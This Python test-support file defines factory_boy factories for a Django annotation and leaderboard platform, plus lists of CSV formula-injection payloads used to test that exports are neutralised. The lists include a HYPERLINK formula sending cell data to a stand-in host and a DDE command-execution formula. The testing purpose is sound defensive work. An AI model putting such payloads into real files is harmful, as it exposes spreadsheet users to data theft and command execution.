"""factory_boy factories shared by the tests of every app."""

from __future__ import annotations

import re
from pathlib import Path

import factory
from django.contrib.auth import get_user_model

from tasks import services
from tasks.models import Context, Task

DEMO_DATA = Path(__file__).resolve().parent.parent / "tasks" / "demo_data"


def demo_config(name: str) -> str:
    """Return the YAML of one of the project's demo task configs (sentiment, nli, qa, hs)."""
    return (DEMO_DATA / f"{name}.yaml").read_text()


class UserFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = get_user_model()
        django_get_or_create = ("username",)
        skip_postgeneration_save = True

    username = factory.Sequence(lambda n: f"user{n}")
    email = factory.LazyAttribute(lambda user: f"{user.username}@example.org")
    password = factory.PostGenerationMethodCall("set_password", "password")

    @factory.post_generation
    def save_password(obj, create, extracted, **kwargs):
        if create:
            obj.save()


class TaskFactory(factory.Factory):
    """Create a task through the service (config version 1 and an open round 1)."""

    class Meta:
        model = Task

    code = factory.Sequence(lambda n: f"task{n}")
    name = factory.LazyAttribute(lambda task: f"Task {task.code}")
    config_name = "sentiment"
    yaml_text = None
    owners = ()

    @classmethod
    def _create(cls, model_class, *, config_name, yaml_text, owners, **kwargs):
        return services.task_create(
            yaml_text=yaml_text or demo_config(config_name), owners=list(owners), **kwargs
        )

    _build = _create


class ContextFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Context

    task = factory.SubFactory(TaskFactory)
    round = factory.LazyAttribute(lambda context: context.task.rounds.order_by("-number").first())
    config_version = factory.LazyAttribute(lambda context: context.task.current_config)
    data = factory.Sequence(lambda n: {"context": f"A demo context number {n}."})
    tag = ""


class ModelFactory(factory.django.DjangoModelFactory):
    """A published predictions-file model (no endpoint) of a task."""

    class Meta:
        model = "models_hub.RegisteredModel"

    task = factory.SubFactory(TaskFactory)
    owner = factory.SubFactory(UserFactory)
    name = factory.Sequence(lambda n: f"model-{n}")
    protocol = "none"
    endpoint_url = ""
    is_published = True


class DatasetFactory(factory.django.DjangoModelFactory):
    """A scoring dataset of a task, under the task's current config version."""

    class Meta:
        model = "leaderboards.Dataset"

    task = factory.SubFactory(TaskFactory)
    name = factory.Sequence(lambda n: f"Dataset {n}")
    slug = factory.Sequence(lambda n: f"dataset-{n}")
    access_type = "scoring"
    config_version = factory.LazyAttribute(lambda dataset: dataset.task.current_config)


class ScoreFactory(factory.django.DjangoModelFactory):
    """The score of a model on a dataset; pass ``metrics={name: value}``."""

    class Meta:
        model = "leaderboards.Score"

    model = factory.SubFactory(ModelFactory)
    dataset = factory.SubFactory(DatasetFactory, task=factory.SelfAttribute("..model.task"))
    config_version = factory.LazyAttribute(lambda score: score.dataset.config_version)
    metrics = factory.LazyFunction(dict)
    main_metric = factory.LazyAttribute(
        lambda score: score.dataset.task.config.main_perf_metric.name
    )
    main_value = factory.LazyAttribute(lambda score: score.metrics.get(score.main_metric))


class CampaignFactory(factory.django.DjangoModelFactory):
    """A crowd campaign on the task's latest round."""

    class Meta:
        model = "annotation.Campaign"

    task = factory.SubFactory(TaskFactory)
    round = factory.LazyAttribute(lambda campaign: campaign.task.rounds.order_by("-number").first())
    name = factory.Sequence(lambda n: f"Campaign {n}")
    kind = "create"
    quota = 3
    worker_id_param = "PROLIFIC_PID"
    completion_code = factory.Sequence(lambda n: f"CODE{n:04d}")


class CampaignWorkerFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = "annotation.CampaignWorker"

    campaign = factory.SubFactory(CampaignFactory)
    external_id = factory.Sequence(lambda n: f"pid{n:06d}")


class ExampleFactory(factory.django.DjangoModelFactory):
    """An example the model answered, written by a user (no stats hooks are called)."""

    class Meta:
        model = "annotation.Example"

    task = factory.SubFactory(TaskFactory)
    round = factory.LazyAttribute(lambda example: example.task.rounds.order_by("-number").first())
    context = factory.SubFactory(
        ContextFactory, task=factory.SelfAttribute("..task"), round=factory.SelfAttribute("..round")
    )
    config_version = factory.LazyAttribute(lambda example: example.task.current_config)
    user = factory.SubFactory(UserFactory)
    input = factory.Sequence(lambda n: {"statement": f"Statement {n}.", "label": "positive"})
    goal_label = "positive"
    status = "model_answered"
    model_output = factory.LazyFunction(lambda: {"label": "negative", "prob": [0.7, 0.2, 0.1]})
    model_wrong = True
    verdict_source = "metric"


class ValidationFactory(factory.django.DjangoModelFactory):
    """A crowd validation of an example (no stats hooks and no example counters move)."""

    class Meta:
        model = "annotation.Validation"

    example = factory.SubFactory(ExampleFactory)
    user = factory.SubFactory(UserFactory)
    label = "correct"


def campaign_session(client, worker) -> None:
    """Make ``client``'s session act as the campaign ``worker``, as entering its link does:
    the worker id is bound to a binding token kept in that session."""
    from annotation.campaigns.actors import SESSION_CAMPAIGN_KEY, SESSION_WORKER_KEY
    from annotation.campaigns.identities import (
        campaign_worker_bind,
        session_bind,
        session_binding_token,
    )

    session = client.session
    token = session_binding_token(session)
    campaign_worker_bind(worker, token)
    session_bind(session, token)
    session.update({SESSION_WORKER_KEY: worker.pk, SESSION_CAMPAIGN_KEY: worker.campaign_id})
    session.save()


# Cells that a spreadsheet would run as formulas (or, for "-0.5", a number that must stay one):
# every CSV the platform writes must neutralise the first seven.
HOSTILE_CSV_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-0.5",
]
# Cells that hide a formula behind a separator or a line break: a spreadsheet that splits on
# ";" (most of continental Europe) or on tabs, and honours quotes only at the start of its
# own cells, would run the part after it. Every CSV must neutralise that part.
HOSTILE_SEPARATED_CSV_CELLS = [
    "x;=1+1;",
    'x;=HYPERLINK("http://evil.example/?"&A1);',
    "x;@SUM(A1:A9)",
    "x;-2+3",
    "x\t=1+1",
    'x;"=1+1"',
    "x\n=1+1",
    "x;\t+1",
]


def cells_split_on(text: str, separator: str) -> list[str]:
    """The cells a spreadsheet set to ``separator`` may read from the CSV ``text``, at worst.

    It ends a line at every line break and splits at every ``separator``, quoted or not (such
    a program honours a double quote only at the start of its own cell); leading blanks and
    double quotes are dropped from each cell, as a program may strip them.
    """
    cells = []
    for line in re.split(r"\r\n|\r|\n", text):
        cells += [cell.lstrip(' "') for cell in line.split(separator)]
    return cells
